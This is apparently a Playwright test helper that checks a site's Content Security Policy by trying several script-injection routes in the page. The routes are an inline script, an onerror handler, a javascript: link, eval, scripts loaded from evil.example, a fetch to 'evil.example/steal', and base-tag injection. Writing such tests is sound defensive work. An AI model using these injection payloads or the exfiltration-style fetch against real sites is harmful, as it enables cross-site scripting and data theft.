import type { BrowserContext } from 'playwright/test';

/** The ways that run something; the eighth moves the base of all addresses. */
export const WAYS_TO_RUN = [
  'eval',
  'foreign fetch',
  'foreign script',
  'handler',
  'inline script',
  'javascript: link',
  'script of this origin',
];

/** Answers for the attacker, and for a script that the attacker got onto this site. */
export async function routeAttack(context: BrowserContext): Promise<void> {
  const script = (name: string) => ({
    contentType: 'text/javascript',
    headers: { 'Access-Control-Allow-Origin': '*' },
    body: `hit('${name}')`,
  });
  await context.route('https://evil.example/**', (route) => route.fulfill(script('foreign script')));
  await context.route('**/art/evil.js', (route) => route.fulfill(script('script of this origin')));
}

/** Runs in the page: tries each way in, and tells which of them ran: at once when all did, or when the time is over. */
export async function attack({ seconds }: { seconds: number }): Promise<{ ran: string[]; base: string }> {
  const ran: string[] = [];
  Object.assign(window, { hit: (name: string) => ran.push(name) });
  const attempt = async (way: () => unknown) => {
    try {
      await way();
    } catch {
      // Refused is what it should be.
    }
  };
  const script = (change: (element: HTMLScriptElement) => void) => () => {
    const element = document.createElement('script');
    change(element);
    document.body.append(element);
  };
  await attempt(script((element) => (element.text = "hit('inline script')")));
  await attempt(
    () =>
      (document.body.appendChild(document.createElement('div')).innerHTML = `<img src="/x" onerror="hit('handler')">`),
  );
  await attempt(() => {
    const link = document.createElement('a');
    link.href = "javascript:hit('javascript: link')";
    document.body.append(link);
    link.click();
  });
  // Later, because the browser's own tools are free to compile.
  setTimeout(() => void attempt(() => (0, eval)("hit('eval')")));
  await attempt(script((element) => (element.src = 'https://evil.example/x.js')));
  await attempt(script((element) => (element.src = '/art/evil.js')));
  await attempt(async () => {
    await fetch('https://evil.example/steal', { mode: 'no-cors' });
    ran.push('foreign fetch');
  });
  await attempt(() => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  });
  for (const end = Date.now() + seconds * 1_000; ran.length < 7 && Date.now() < end;)
    await new Promise((resolve) => setTimeout(resolve, 50));
  return { ran, base: new URL(document.baseURI).origin };
}
